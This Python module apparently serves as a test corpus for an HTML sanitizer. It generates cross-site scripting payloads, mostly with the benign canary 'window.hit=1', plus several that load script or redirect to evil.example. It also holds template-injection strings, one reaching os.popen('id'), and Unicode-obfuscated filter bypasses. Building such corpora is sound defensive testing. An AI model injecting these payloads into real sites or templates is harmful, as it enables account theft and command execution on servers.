"""Texts that would act if a page took them for anything but text: set ``hit``, or leave the desk."""

from __future__ import annotations

_ACT = "window.hit=1"
_ELEMENTS = (
    "<script>{act}</script>",
    "<ScRiPt >{act}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>{act}</script>",
    "<script>{act}//",
    "<<script>{act}//<</script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<svg><script>{act}</script></svg>",
    "<math><mtext><script>{act}</script></mtext></math>",
    "<iframe src=javascript:{act}>",
    "<iframe srcdoc='<script>parent.{act}</script>'>",
    "<object data=javascript:{act}>",
    "<embed src=javascript:{act}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/)}}</style>",
    "<form action=//evil.example><button>go</button></form>",
    "<input type=image src=x formaction=//evil.example>",
    "<a href=javascript:{act}>x</a>",
    "<a href='java\tscript:{act}'>x</a>",
    "<a href='&#106;avascript:{act}'>x</a>",
    "<a href='data:text/html,<script>{act}</script>'>x</a>",
    "<a href='vbscript:{act}'>x</a>",
    "<template><script>{act}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<textarea><img title='</textarea><img src=x onerror={act}>'>",
    "<title><img title='</title><img src=x onerror={act}>'>",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<script>{act}</script>]]>",
    "<?xml-stylesheet href='javascript:{act}'?>",
    "<portal src=//evil.example>",
    "<frameset onload={act}>",
    "<isindex type=image src=1 onerror={act}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={act}>#x'/></svg>",
    "<svg><a xlink:href='javascript:{act}'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{act}>",
    "<math href=javascript:{act}>x</math>",
)
_HANDLERS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
    "details open ontoggle",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "marquee onstart",
    "object onerror data=x",
    "video poster=x onloadstart",
    "p onmouseover",
    "a tabindex=1 onfocus",
    "div onpointerenter",
    "style onload",
    "x onclick",
    "keygen autofocus onfocus",
    "embed src=x onload",
    "button autofocus onfocus",
)
_BREAKS = (
    '"{tag}',
    "'{tag}",
    '">{tag}',
    "'>{tag}",
    "</title>{tag}",
    "</script>{tag}",
    "</textarea>{tag}",
    "--!>{tag}",
)
_ATTRIBUTES = (
    '" onmouseover="{act}',
    "' onmouseover='{act}",
    '" autofocus onfocus="{act}',
    "` onfocus={act} `",
    '" style="background:url(//evil.example)',
    '"/onload={act} x="',
    "x onerror={act} ",
    '"><script>{act}</script>',
)
_TEMPLATES = (
    "{{{{7*7}}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
    "{{{{config}}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{{{''.__class__.__mro__}}}}",
    "[[${{7*7}}]]",
    "{{{{page.person}}}}",
    "{{{{cycler.__init__.__globals__.os.popen('id').read()}}}}",
)
_UNSEEN = (
    "\u202e<script>{act}</script>",
    "<scr\x00ipt>{act}</script>",
    "<script\x0c>{act}</script>",
    "\ufeff<script>{act}</script>",
    "＜script＞{act}＜/script＞",
    "<ſcript>{act}</ſcript>",
    "<script\u2028>{act}</script>",
    "\u2029<img src=x onerror={act}>",
    "<img src=x\u00a0onerror={act}>",
    "<img src=x onerror\u3000={act}>",
)


def payloads() -> list[str]:
    """All of them, each once."""
    handled = [f"<{handler}={_ACT}>" for handler in _HANDLERS]
    slashed = [f"<{handler.replace(' ', '/')}={_ACT}//" for handler in _HANDLERS]
    broken = [one.format(tag=tag) for one in _BREAKS for tag in handled[:13]]
    rest = (*_ELEMENTS, *_ATTRIBUTES, *_TEMPLATES, *_UNSEEN)
    found = [*handled, *slashed, *broken, *(one.format(act=_ACT) for one in rest)]
    assert len(set(found)) == len(found)
    return found
